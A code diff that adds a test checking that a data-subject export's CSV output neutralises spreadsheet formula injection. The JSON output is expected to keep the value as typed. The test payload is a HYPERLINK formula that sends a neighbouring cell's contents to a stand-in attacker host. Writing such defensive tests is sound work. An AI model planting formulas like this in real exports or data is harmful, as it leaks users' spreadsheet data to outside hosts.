@@ -140,6 +140,16 @@ beforeEach(async () => {
 });
 
 describe('data-subject requests', () => {
+  test('export CSV: a value typed as a formula is kept from running in a spreadsheet; the JSON has it as typed', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&B2,"open")';
+    await app.desk.services.customers.update(await ctxOf(app, OWNER), code, { notes: formula });
+    const result = await app.desk.services.dataSubjects.export(await ctxOf(app, ADMIN), code);
+    expect(JSON.parse(result.json).customers[0].notes).toBe(formula);
+    const cell = result.csv.split('\n').find((line) => line.includes('HYPERLINK'))!;
+    expect(cell).toContain(`"'=HYPERLINK(`);
+    expect(result.csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+  });
+
   test('export of one contact: their record and every document naming them, as JSON and CSV; logged', async () => {
     const result = await app.desk.services.dataSubjects.export(
       await ctxOf(app, ADMIN),
